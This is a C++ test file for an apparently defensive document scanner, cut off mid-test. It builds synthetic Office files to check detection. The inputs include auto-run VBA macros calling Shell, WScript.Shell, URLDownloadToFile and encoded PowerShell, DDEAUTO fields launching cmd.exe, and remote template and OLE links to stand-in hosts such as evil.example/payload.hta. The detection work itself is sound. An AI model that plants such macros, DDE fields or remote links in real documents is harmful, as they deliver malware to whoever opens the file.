// Document analysers (src/inspect/ole.cc, ooxml.cc, rtf.cc, pdf.cc, html_doc.cc). Every
// input is built here: a small Compound File writer (512-byte sectors, FAT, mini stream,
// directory), an MS-OVBA compressor, OLE1 object headers, PDFs with zlib streams, HTML
// smuggling pages.
#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "core/config.h"
#include "inspect/documents.h"
#include "inspect/engines.h"
#include "inspect/inspect.h"

namespace bulwark::inspect {
namespace {

// ---------------------------------------------------------------------------------------
// Harness

const Engines& engines() {
  static std::unique_ptr<Engines> e = [] {
    auto r = Engines::load(InspectConfig{});
    if (!r) {
      ADD_FAILURE() << "Engines::load: " << r.error().message;
      std::abort();
    }
    return std::move(r).value();
  }();
  return *e;
}

struct Probe {
  std::unique_ptr<InspectLimits> limits = std::make_unique<InspectLimits>();
  std::unique_ptr<Inspector> insp;
  std::string bytes;  // keeps the input alive

  explicit Probe(std::string input) : bytes(std::move(input)) {
    insp = std::make_unique<Inspector>(engines(), *limits);
  }
  Blob blob(std::string name = "") const {
    Blob b{bytes, "1", {}, "", 0};
    if (!name.empty()) b.names.push_back(name);
    return b;
  }
  Results& results() { return insp->results(); }
  bool has(std::string_view symbol) {
    for (const Finding& f : results().symbols)
      if (f.symbol == symbol) return true;
    return false;
  }
  std::string detail(std::string_view symbol) {
    for (const Finding& f : results().symbols)
      if (f.symbol == symbol) return f.detail;
    return "";
  }
  // A symbol raised at a location ending with `suffix` (a child's own findings).
  bool has_at(std::string_view symbol, std::string_view suffix) {
    for (const Finding& f : results().symbols)
      if (f.symbol == symbol && f.location.ends_with(suffix)) return true;
    return false;
  }
  std::string dump() {
    std::string out;
    for (const Finding& f : results().symbols)
      out += f.symbol + " @" + f.location + ": " + f.detail + "\n";
    return out;
  }
};

// Symbols the document analysers raise (a clean input raises none of these).
bool is_document_symbol(std::string_view s) {
  return s.starts_with("DOC_") || s.starts_with("PDF_") || s.starts_with("HTML_");
}

void expect_clean(Probe& r) {
  for (const Finding& f : r.results().symbols)
    EXPECT_FALSE(is_document_symbol(f.symbol)) << r.dump();
  EXPECT_EQ(r.results().blobs, 0u) << r.dump();
}

void put16(std::string& s, std::uint32_t v) {
  s += static_cast<char>(v & 0xFF);
  s += static_cast<char>((v >> 8) & 0xFF);
}
void put32(std::string& s, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) s += static_cast<char>((v >> (8 * i)) & 0xFF);
}
void set32(std::string& s, std::size_t off, std::uint32_t v) {
  for (int i = 0; i < 4; ++i)
    s[off + static_cast<std::size_t>(i)] = static_cast<char>((v >> (8 * i)) & 0xFF);
}

std::string zlib_compress(std::string_view in) {
  uLongf n = compressBound(static_cast<uLong>(in.size()));
  std::string out(n, '\0');
  EXPECT_EQ(compress2(reinterpret_cast<Bytef*>(out.data()), &n,
                      reinterpret_cast<const Bytef*>(in.data()), static_cast<uLong>(in.size()), 9),
            Z_OK);
  out.resize(n);
  return out;
}

std::string fake_exe(std::size_t n = 2000) {
  std::string s = "MZ";
  for (std::size_t i = 2; i < n; ++i) s += static_cast<char>((i * 7) & 0xFF);
  return s;
}

// ---------------------------------------------------------------------------------------
// A Compound File writer: 512-byte sectors, version 3; streams under 4096 bytes go to the
// mini stream, as real writers do.

struct CfbEntry {
  std::string name;
  int type = 2;    // 1 storage, 2 stream
  int parent = 0;  // index into the entries list; 0 is the root
  std::string data;
  std::string clsid;  // 16 bytes or empty
};

class CfbWriter {
 public:
  explicit CfbWriter(std::size_t sector = 512) : ss_(sector) {}
  int storage(std::string name, int parent = 0, std::string clsid = "") {
    entries_.push_back(CfbEntry{std::move(name), 1, parent, "", std::move(clsid)});
    return static_cast<int>(entries_.size());  // ids: root is 0, entries from 1
  }
  int stream(std::string name, std::string data, int parent = 0) {
    entries_.push_back(CfbEntry{std::move(name), 2, parent, std::move(data), ""});
    return static_cast<int>(entries_.size());
  }

  std::string build() const {
    constexpr std::uint32_t kEnd = 0xFFFFFFFE, kFree = 0xFFFFFFFF, kFatSect = 0xFFFFFFFD,
                            kNone = 0xFFFFFFFF;
    const std::size_t n = entries_.size() + 1;  // with the root
    std::vector<std::uint32_t> start(n, kEnd);
    std::vector<std::uint32_t> size(n, 0);
    // Mini stream.
    std::string mini;
    std::vector<std::uint32_t> minifat;
    for (std::size_t i = 1; i < n; ++i) {
      const CfbEntry& e = entries_[i - 1];
      size[i] = static_cast<std::uint32_t>(e.data.size());
      if (e.type != 2 || e.data.empty() || e.data.size() >= 4096) continue;
      const std::uint32_t first = static_cast<std::uint32_t>(minifat.size());
      const std::size_t count = (e.data.size() + 63) / 64;
      for (std::size_t k = 0; k < count; ++k)
        minifat.push_back(k + 1 < count ? first + static_cast<std::uint32_t>(k) + 1 : kEnd);
      std::string padded = e.data;
      padded.resize(count * 64, '\0');
      mini += padded;
      start[i] = first;
    }
    // Regular sectors: big streams, mini stream, mini FAT, directory, then the FAT.
    std::vector<std::string> sectors;
    std::vector<std::uint32_t> fat;
    auto place = [&](const std::string& data) -> std::uint32_t {
      if (data.empty()) return kEnd;
      const std::uint32_t first = static_cast<std::uint32_t>(sectors.size());
      const std::size_t count = (data.size() + ss_ - 1) / ss_;
      for (std::size_t k = 0; k < count; ++k) {
        std::string s = data.substr(k * ss_, ss_);
        s.resize(ss_, '\0');
        sectors.push_back(s);
        fat.push_back(k + 1 < count ? first + static_cast<std::uint32_t>(k) + 1 : kEnd);
      }
      return first;
    };
    for (std::size_t i = 1; i < n; ++i) {
      const CfbEntry& e = entries_[i - 1];
      if (e.type == 2 && e.data.size() >= 4096) start[i] = place(e.data);
    }
    start[0] = place(mini);
    size[0] = static_cast<std::uint32_t>(mini.size());
    std::string minifat_bytes;
    for (std::uint32_t v : minifat) put32(minifat_bytes, v);
    const std::uint32_t minifat_start = place(minifat_bytes);
    const std::uint32_t minifat_count =
        static_cast<std::uint32_t>((minifat_bytes.size() + ss_ - 1) / ss_);
    // Directory: children of each storage chained through right siblings.
    std::vector<std::uint32_t> child(n, kNone), right(n, kNone);
    std::vector<std::uint32_t> last(n, kNone);
    for (std::size_t i = 1; i < n; ++i) {
      const std::size_t p = static_cast<std::size_t>(entries_[i - 1].parent);
      if (last[p] == kNone) {
        child[p] = static_cast<std::uint32_t>(i);
      } else {
        right[last[p]] = static_cast<std::uint32_t>(i);
      }
      last[p] = static_cast<std::uint32_t>(i);
    }
    std::string dir;
    for (std::size_t i = 0; i < n; ++i) {
      const std::string name = i == 0 ? std::string("Root Entry") : entries_[i - 1].name;
      const int type = i == 0 ? 5 : entries_[i - 1].type;
      std::string e;
      for (char c : name) put16(e, static_cast<unsigned char>(c));
      e.resize(64, '\0');
      put16(e, static_cast<std::uint32_t>((name.size() + 1) * 2));
      e += static_cast<char>(type);
      e += '\x01';      // black
      put32(e, kNone);  // left
      put32(e, right[i]);
      put32(e, child[i]);
      std::string clsid = i == 0 ? std::string() : entries_[i - 1].clsid;
      clsid.resize(16, '\0');
      e += clsid;
      put32(e, 0);                 // state
      e += std::string(16, '\0');  // times
      put32(e, type == 1 ? 0 : start[i]);
      put32(e, type == 1 ? 0 : size[i]);
      put32(e, 0);
      dir += e;
    }
    while (dir.size() % ss_) {
      std::string e(64, '\0');
      put16(e, 0);
      e += '\0';
      e += '\0';
      put32(e, kNone);
      put32(e, kNone);
      put32(e, kNone);
      e += std::string(16 + 4 + 16, '\0');
      put32(e, 0);
      put32(e, 0);
      put32(e, 0);
      dir += e;
    }
    const std::uint32_t dir_start = place(dir);
    // FAT sectors cover everything including themselves.
    const std::size_t per = ss_ / 4;
    const std::size_t dir_sectors = dir.size() / ss_;
    std::size_t nfat = 1;
    while ((sectors.size() + nfat) > nfat * per) ++nfat;
    const std::uint32_t fat_start = static_cast<std::uint32_t>(sectors.size());
    for (std::size_t k = 0; k < nfat; ++k) fat.push_back(kFatSect);
    fat.resize(nfat * per, kFree);
    for (std::size_t k = 0; k < nfat; ++k) {
      std::string s;
      for (std::size_t j = 0; j < per; ++j) put32(s, fat[k * per + j]);
      sectors.push_back(s);
    }
    std::string h("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
    h += std::string(16, '\0');
    put16(h, 0x3E);
    put16(h, ss_ == 4096 ? 4 : 3);
    put16(h, 0xFFFE);
    put16(h, ss_ == 4096 ? 12 : 9);
    put16(h, 6);
    h += std::string(6, '\0');
    put32(h, ss_ == 4096 ? static_cast<std::uint32_t>(dir_sectors) : 0);
    put32(h, static_cast<std::uint32_t>(nfat));
    put32(h, dir_start);
    put32(h, 0);
    put32(h, 4096);
    put32(h, minifat_bytes.empty() ? kEnd : minifat_start);
    put32(h, minifat_count);
    put32(h, kEnd);
    put32(h, 0);
    for (std::size_t k = 0; k < 109; ++k)
      put32(h, k < nfat ? fat_start + static_cast<std::uint32_t>(k) : kFree);
    EXPECT_EQ(h.size(), 512u);
    h.resize(ss_, '\0');  // a version 4 header occupies a whole 4096-byte sector
    for (const std::string& s : sectors) h += s;
    return h;
  }

 private:
  std::size_t ss_;
  std::vector<CfbEntry> entries_;
};

// [MS-OVBA] 2.4.1 compression: greedy matches within each 4096-byte chunk, so the
// decompressor's copy tokens are exercised.
std::string ovba_compress(std::string_view in) {
  std::string out = "\x01";
  for (std::size_t cs = 0; cs < in.size() || cs == 0; cs += 4096) {
    const std::string_view chunk = in.substr(cs, 4096);
    std::string data;
    std::size_t p = 0;
    while (p < chunk.size()) {
      const std::size_t flag_at = data.size();
      data += '\0';
      unsigned char flags = 0;
      for (int bit = 0; bit < 8 && p < chunk.size(); ++bit) {
        unsigned bits = 4;
        while (bits < 12 && (std::size_t{1} << bits) < p) ++bits;
        const std::size_t max_len = (0xFFFFu >> bits) + 3;
        const std::size_t max_off = std::size_t{1} << (16 - bits);
        std::size_t best_len = 0, best_off = 0;
        for (std::size_t off = 1; off <= std::min(p, max_off); ++off) {
          std::size_t len = 0;
          while (len < max_len && p + len < chunk.size() && chunk[p + len] == chunk[p - off + len])
            ++len;
          if (len > best_len) {
            best_len = len;
            best_off = off;
          }
        }
        if (best_len >= 3) {
          const std::uint32_t token =
              static_cast<std::uint32_t>(((best_off - 1) << (16 - bits)) | (best_len - 3));
          put16(data, token);
          flags = static_cast<unsigned char>(flags | (1u << bit));
          p += best_len;
        } else {
          data += chunk[p++];
        }
      }
      data[flag_at] = static_cast<char>(flags);
    }
    EXPECT_LE(data.size() + 2, 4098u);
    put16(out, 0xB000u | static_cast<std::uint32_t>(data.size() + 2 - 3));
    out += data;
    if (in.empty()) break;
  }
  return out;
}

std::string vba_dir_stream(const std::vector<std::pair<std::string, std::uint32_t>>& modules) {
  std::string d;
  auto rec = [&](std::uint16_t id, std::string_view data) {
    put16(d, id);
    put32(d, static_cast<std::uint32_t>(data.size()));
    d += data;
  };
  std::string v;
  put32(v, 1);
  rec(0x0001, v);          // PROJECTSYSKIND
  rec(0x0004, "Project");  // PROJECTNAME
  put16(d, 0x0009);        // PROJECTVERSION: size says 4, carries 6
  put32(d, 4);
  put32(d, 0x5A);
  put16(d, 2);
  std::string count;
  put16(count, static_cast<std::uint32_t>(modules.size()));
  rec(0x000F, count);  // PROJECTMODULES
  for (const auto& [name, offset] : modules) {
    rec(0x0019, name);  // MODULENAME
    rec(0x001A, name);  // MODULESTREAMNAME
    std::string uni;
    for (char c : name) put16(uni, static_cast<unsigned char>(c));
    rec(0x0032, uni);
    std::string off;
    put32(off, offset);
    rec(0x0031, off);  // MODULEOFFSET
    rec(0x0021, "");   // MODULETYPE procedural
    rec(0x002B, "");   // terminator
  }
  rec(0x0010, "");
  return ovba_compress(d);
}

std::string fib(bool encrypted) {
  std::string f;
  put16(f, 0xA5EC);
  put16(f, 0x00C1);
  put16(f, 0);
  put16(f, 0x0409);
  put16(f, 0);
  put16(f, encrypted ? 0x0100 : 0x0000);
  f.resize(512, '\0');
  return f;
}

std::string macro_doc(std::string_view source) {
  CfbWriter w;
  w.stream("WordDocument", fib(false));
  const int macros = w.storage("Macros");
  w.stream("PROJECT", "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n",
           macros);
  const int vba = w.storage("VBA", macros);
  const std::uint32_t offset = 24;  // p-code before the compressed source
  w.stream("dir", vba_dir_stream({{"Module1", offset}}), vba);
  w.stream("_VBA_PROJECT", std::string("\xCC\x61\xFF\xFF\x00\x00\x00", 7), vba);
  w.stream("Module1", std::string(offset, '\x55') + ovba_compress(source), vba);
  return w.build();
}

std::string ole10native(std::string_view label, std::string_view path, std::string_view data) {
  std::string n;
  put16(n, 2);
  n += label;
  n += '\0';
  n += path;
  n += '\0';
  put16(n, 0);
  put16(n, 3);
  const std::string temp = "C:\\Users\\x\\AppData\\Local\\Temp\\" + std::string(label);
  put32(n, static_cast<std::uint32_t>(temp.size() + 1));
  n += temp;
  n += '\0';
  put32(n, static_cast<std::uint32_t>(data.size()));
  n += data;
  return n;
}

// ---------------------------------------------------------------------------------------
// OLE2

TEST(InspectOle, RecognisesCompoundFiles) {
  EXPECT_TRUE(looks_like_ole(CfbWriter().build()));
  EXPECT_FALSE(looks_like_ole("PK\x03\x04"));
  EXPECT_FALSE(looks_like_ole(""));
}

TEST(InspectOle, PlainDocumentRaisesNothing) {
  CfbWriter w;
  w.stream("WordDocument", fib(false));
  w.stream("1Table", std::string(700, 'x'));
  w.stream("\x05SummaryInformation", std::string(300, '\0'));
  w.stream("Data", std::string(6000, 'd'));  // a regular-FAT stream
  Probe r(w.build());
  inspect_ole(r.blob("letter.doc"), *r.insp);
  expect_clean(r);
}

TEST(InspectOle, VbaProjectWithAutoOpenAndShell) {
  const std::string src =
      "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"calc\"\r\nEnd Sub\r\n"
      "Sub Helper()\r\n  Helper Helper Helper Helper Helper\r\nEnd Sub\r\n";
  Probe r(macro_doc(src));
  inspect_ole(r.blob("invoice.doc"), *r.insp);
  EXPECT_TRUE(r.has("DOC_VBA_MACRO")) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_MACRO").find("Module1"), std::string::npos) << r.dump();
  EXPECT_TRUE(r.has("DOC_VBA_AUTOEXEC")) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_AUTOEXEC").find("autoopen"), std::string::npos);
  EXPECT_TRUE(r.has("DOC_VBA_SUSPICIOUS")) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("shell"), std::string::npos);
}

TEST(InspectOle, LongModuleSpansChunksAndRegularSectors) {
  std::string src = "Attribute VB_Name = \"Module1\"\r\n";
  for (int i = 0; i < 400; ++i) src += "Dim v" + std::to_string(i) + " As Long ' filler line\r\n";
  src += "Private Sub Workbook_Open()\r\n Set o = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n";
  ASSERT_GT(src.size(), 8192u);
  Probe r(macro_doc(src));
  inspect_ole(r.blob("book.xls"), *r.insp);
  EXPECT_TRUE(r.has("DOC_VBA_AUTOEXEC")) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_AUTOEXEC").find("workbook_open"), std::string::npos);
  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("wscript.shell"), std::string::npos) << r.dump();
}

TEST(InspectOle, VbaFoundWhenDirStreamIsDamaged) {
  // A stomped dir stream: the module source is still found by its signature.
  CfbWriter w;
  const int vba = w.storage("VBA", w.storage("_VBA_PROJECT_CUR"));
  w.stream("dir", "garbage", vba);
  w.stream("ThisWorkbook",
           std::string(40, '\x10') +
               ovba_compress("Attribute VB_Name = \"x\"\r\nSub Auto_Open()\r\nURLDownloadToFile 0, "
                             "u, f, 0, 0\r\nEnd Sub\r\n"),
           vba);
  Probe r(w.build());
  inspect_ole(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("DOC_VBA_MACRO")) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_AUTOEXEC").find("auto_open"), std::string::npos) << r.dump();
  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("urldownloadtofile"), std::string::npos);
}

TEST(InspectOle, VbaProjectBinAlone) {
  // vbaProject.bin from an .xlsm/.docm: the VBA storage sits under the root.
  CfbWriter w;
  w.stream("PROJECT", "Module=Module1\r\n");
  const int vba = w.storage("VBA");
  w.stream("dir", vba_dir_stream({{"Module1", 0}}), vba);
  w.stream("Module1",
           ovba_compress("Sub Document_Open()\r\nx = \"powershell -enc AAAA\"\r\nEnd Sub\r\n"),
           vba);
  Probe r(w.build());
  Blob b = r.blob();
  b.depth = 1;
  b.names = {"word/vbaProject.bin"};
  inspect_ole(b, *r.insp);
  EXPECT_TRUE(r.has("DOC_VBA_MACRO"));
  EXPECT_TRUE(r.has("DOC_VBA_AUTOEXEC"));
  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("powershell"), std::string::npos) << r.dump();
}

TEST(InspectOle, Excel4MacroSheetVeryHidden) {
  std::string wb;
  put16(wb, 0x0809);  // BOF
  put16(wb, 16);
  wb += std::string(16, '\0');
  for (auto [type, state, name] : {std::tuple{0, 0, "Sheet1"}, std::tuple{1, 2, "Auto"}}) {
    put16(wb, 0x0085);
    const std::string n = name;
    put16(wb, static_cast<std::uint32_t>(8 + n.size()));
    put32(wb, 0);
    wb += static_cast<char>(state);
    wb += static_cast<char>(type);
    wb += static_cast<char>(n.size());
    wb += '\0';
    wb += n;
  }
  put16(wb, 0x000A);  // EOF
  put16(wb, 0);
  wb.resize(5000, '\0');  // past the mini-stream cutoff: regular sectors
  CfbWriter w;
  w.stream("Workbook", wb);
  Probe r(w.build());
  inspect_ole(r.blob("x.xls"), *r.insp);
  EXPECT_TRUE(r.has("DOC_XLM_MACRO")) << r.dump();
  EXPECT_NE(r.detail("DOC_XLM_MACRO").find("'Auto' (very hidden)"), std::string::npos) << r.dump();
  EXPECT_FALSE(r.has("DOC_VBA_MACRO"));
}

TEST(InspectOle, Ole10NativePackageBecomesChild) {
  CfbWriter w;
  w.stream(
      "\x01"
      "CompObj",
      "\x01\x00\xFE\xFF"
      "Package");
  std::string stream;
  const std::string native = ole10native("evil.exe", "C:\\Users\\a\\Desktop\\evil.exe", fake_exe());
  put32(stream, static_cast<std::uint32_t>(native.size()));
  stream += native;
  w.stream("\x01Ole10Native", stream);
  Probe r(w.build());
  inspect_ole(r.blob("report.doc"), *r.insp);
  EXPECT_TRUE(r.has("DOC_EMBEDDED_PACKAGE")) << r.dump();
  EXPECT_NE(r.detail("DOC_EMBEDDED_PACKAGE").find("evil.exe"), std::string::npos);
  EXPECT_EQ(r.results().blobs, 1u);
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_EXT", "/evil.exe") ||
              r.has_at("FILE_DANGEROUS_TYPE", "/evil.exe"))
      << r.dump();
}

TEST(InspectOle, EncryptionMarkers) {
  {
    CfbWriter w;
    w.stream("EncryptionInfo", std::string(200, '\x04'));
    w.stream("EncryptedPackage", std::string(5000, '\x99'));
    Probe r(w.build());
    inspect_ole(r.blob(), *r.insp);
    EXPECT_TRUE(r.has("DOC_ENCRYPTED")) << r.dump();
  }
  {
    CfbWriter w;
    w.stream("WordDocument", fib(true));
    Probe r(w.build());
    inspect_ole(r.blob(), *r.insp);
    EXPECT_TRUE(r.has("DOC_ENCRYPTED")) << r.dump();
  }
}

TEST(InspectOle, EquationEditorByStreamAndClsid) {
  {
    CfbWriter w;
    w.stream("Equation Native", std::string(100, '\x1c'));
    Probe r(w.build());
    inspect_ole(r.blob(), *r.insp);
    EXPECT_TRUE(r.has("DOC_EQUATION_EDITOR")) << r.dump();
  }
  {
    CfbWriter w;
    const std::string clsid("\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
    w.storage("ObjectPool", 0, clsid);
    Probe r(w.build());
    inspect_ole(r.blob(), *r.insp);
    EXPECT_TRUE(r.has("DOC_EQUATION_EDITOR")) << r.dump();
  }
}

TEST(InspectOle, Version4With4096ByteSectors) {
  CfbWriter w(4096);
  const int vba = w.storage("VBA", w.storage("Macros"));
  w.stream("dir", vba_dir_stream({{"NewMacros", 0}}), vba);
  w.stream("NewMacros",
           ovba_compress("Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n"), vba);
  w.stream("Big", std::string(20000, 'b'));
  const std::string file = w.build();
  ASSERT_EQ(file.size() % 4096, 0u);
  Probe r(file);
  inspect_ole(r.blob(), *r.insp);
  EXPECT_NE(r.detail("DOC_VBA_MACRO").find("NewMacros"), std::string::npos) << r.dump();
  EXPECT_TRUE(r.has("DOC_VBA_AUTOEXEC"));
  EXPECT_NE(r.detail("DOC_VBA_SUSPICIOUS").find("wscript.shell"), std::string::npos);
}

TEST(InspectOle, LinkedObjectWithUrlMoniker) {
  // An "\x01Ole" stream of a linked object whose source is a URL moniker (CVE-2017-0199).
  std::string ole;
  put32(ole, 0x02000001);
  put32(ole, 1);  // linked
  put32(ole, 0);
  put32(ole, 0);
  put32(ole, 0);  // no reserved moniker
  std::string moniker("\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B", 16);
  const std::string url = "http://evil.example/payload.hta";
  put32(moniker, static_cast<std::uint32_t>((url.size() + 1) * 2));
  for (char c : url) put16(moniker, static_cast<unsigned char>(c));
  put16(moniker, 0);
  put32(ole, static_cast<std::uint32_t>(moniker.size()));
  ole += moniker;
  CfbWriter w;
  w.stream("\x01Ole", ole);
  w.stream(
      "\x01"
      "CompObj",
      "OLE2Link");
  Probe r(w.build());
  inspect_ole(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("DOC_EXTERNAL_OLE_LINK")) << r.dump();
  EXPECT_NE(r.detail("DOC_EXTERNAL_OLE_LINK").find("evil.example/payload.hta"), std::string::npos);
  // An embedded (not linked) object's "\x01Ole" stream is ordinary.
  std::string plain;
  put32(plain, 0x02000001);
  put32(plain, 0);
  plain += std::string(12, '\0');
  CfbWriter c;
  c.stream("\x01Ole", plain);
  c.stream("PROJECT", "Name of the project: quarterly figures");  // not a VBA PROJECT stream
  Probe q(c.build());
  inspect_ole(q.blob(), *q.insp);
  expect_clean(q);
}

TEST(InspectOle, CorruptFilesStayBounded) {
  const std::string good = macro_doc("Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub\r\n");
  // Every truncation, and a FAT that loops on itself.
  for (std::size_t n = 0; n < good.size(); n += 37) {
    Probe r(good.substr(0, n));
    inspect_ole(r.blob(), *r.insp);
  }
  std::string looped = good;
  // Point every FAT entry at sector 0: every chain becomes a loop.
  const std::size_t nfat_sector =
      static_cast<std::size_t>(static_cast<unsigned char>(looped[76])) + 1;
  for (std::size_t i = 0; i < 128; ++i) set32(looped, nfat_sector * 512 + 4 * i, 0);
  // And a directory that names itself as its own child and siblings.
  const auto t0 = std::chrono::steady_clock::now();
  Probe r(looped);
  inspect_ole(r.blob(), *r.insp);
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(2));
  // Random byte flips.
  std::uint32_t seed = 12345;
  for (int round = 0; round < 200; ++round) {
    std::string m = good;
    for (int k = 0; k < 8; ++k) {
      seed = seed * 1103515245u + 12345u;
      m[seed % m.size()] = static_cast<char>(seed >> 16);
    }
    Probe rr(m);
    inspect_ole(rr.blob(), *rr.insp);
  }
}

// ---------------------------------------------------------------------------------------
// OOXML

TEST(InspectOoxml, PartsByPath) {
  for (const char* p :
       {"[Content_Types].xml", "word/_rels/settings.xml.rels", "_rels/.rels", "word/document.xml",
        "word/settings.xml", "xl/workbook.xml", "xl/externalLinks/externalLink1.xml",
        "customXml/item1.xml", "WORD/Document.xml", "word/header1.xml", "xl/worksheets/sheet1.xml",
        "xl/macrosheets/sheet1.xml"})
    EXPECT_TRUE(is_ooxml_part(p)) << p;
  for (const char* p : {"word/media/image1.png", "docProps/app.xml", "word/vbaProject.bin",
                        "word/styles.xml", "readme.txt"})
    EXPECT_FALSE(is_ooxml_part(p)) << p;
}

Probe ooxml(std::string path, std::string xml) {
  Probe r(std::move(xml));
  Blob b = r.blob(path);
  b.depth = 1;
  b.location = "1/doc.docx/" + path;
  inspect_ooxml_part(b, *r.insp);
  return r;
}

TEST(InspectOoxml, RemoteTemplateVariants) {
  const char* variants[] = {
      R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>)",
      // Case, whitespace, single quotes, prefixes, entities and newlines inside values.
      ("<ns0:Relationships><ns0:Relationship\n  TARGETMODE = 'external'\n  "
       "Target='https://evil.example/t.dotm'\n"
       "  "
       "type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
       "attached\nTemplate' Id='r'/>"),
      "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/&#x61;ttachedTemplate\" "
      "Target=\"&#104;ttp://evil.example/t.dotm\" TargetMode=\"Ext&#x65;rnal\"/></Relationships>",
  };
  for (const char* v : variants) {
    Probe r = ooxml("word/_rels/settings.xml.rels", v);
    EXPECT_TRUE(r.has("DOC_EXTERNAL_TEMPLATE")) << v << "\n" << r.dump();
    EXPECT_NE(r.detail("DOC_EXTERNAL_TEMPLATE").find("evil.example/t.dotm"), std::string::npos);
  }
}

TEST(InspectOoxml, ExternalOleLinkFrameAndUnc) {
  Probe r = ooxml("word/_rels/document.xml.rels",
                  R"(<Relationships>
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://evil.example/x.sct" TargetMode="External"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="https://evil.example/f.html" TargetMode="External"/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\attacker\share\i.png" TargetMode="External"/>
<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>
<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
</Relationships>)");
  EXPECT_TRUE(r.has("DOC_EXTERNAL_OLE_LINK")) << r.dump();
  EXPECT_TRUE(r.has("DOC_EXTERNAL_REFERENCE")) << r.dump();
  EXPECT_FALSE(r.has("DOC_EXTERNAL_TEMPLATE"));
  std::size_t refs = 0;
  for (const Finding& f : r.results().symbols) refs += f.symbol == "DOC_EXTERNAL_REFERENCE";
  EXPECT_EQ(refs, 2u) << r.dump();  // the frame and the UNC image, not the hyperlink
}

TEST(InspectOoxml, CleanRelsRaiseNothing) {
  Probe r = ooxml(
      "_rels/.rels",
      R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>)");
  expect_clean(r);
}

TEST(InspectOoxml, DdeAutoSplitAcrossRuns) {
  Probe r = ooxml("word/document.xml", R"(<w:document><w:body><w:p>
<w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r>
<w:r><w:instrText>DE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>)");
  EXPECT_TRUE(r.has("DOC_DDE")) << r.dump();
  EXPECT_NE(r.detail("DOC_DDE").find("cmd.exe"), std::string::npos);
}

TEST(InspectOoxml, DdeInFldSimpleAndQuoteCodes) {
  Probe r = ooxml(
      "word/document.xml",
      R"(<w:document><w:p><w:fldSimple w:instr=" dde &quot;cmd&quot; &quot;/c calc&quot;"/></w:p></w:document>)");
  EXPECT_TRUE(r.has("DOC_DDE")) << r.dump();
  // QUOTE 68 68 69 ... spells "DDEAUTO".
  Probe q = ooxml(
      "word/document.xml",
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79 32 99</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)");
  EXPECT_TRUE(q.has("DOC_DDE")) << q.dump();
}

TEST(InspectOoxml, OrdinaryFieldsRaiseNothing) {
  Probe r = ooxml("word/document.xml", R"(<w:document><w:body>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://example.com/dde" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:t>DDE is a protocol; ADDED text.</w:t></w:r></w:p>
</w:body></w:document>)");
  expect_clean(r);
}

TEST(InspectOoxml, ExcelDdeLinkAndFormula) {
  Probe r = ooxml(
      "xl/externalLinks/externalLink1.xml",
      R"(<externalLink><ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>)");
  EXPECT_TRUE(r.has("DOC_DDE")) << r.dump();
  Probe f = ooxml(
      "xl/worksheets/sheet1.xml",
      R"(<worksheet><sheetData><row><c r="A1"><f>cmd|' /C calc'!A0</f></c><c r="A2"><f>SUM(B1:B3)</f></c></row></sheetData></worksheet>)");
  EXPECT_TRUE(f.has("DOC_DDE")) << f.dump();
  Probe clean = ooxml(
      "xl/worksheets/sheet1.xml",
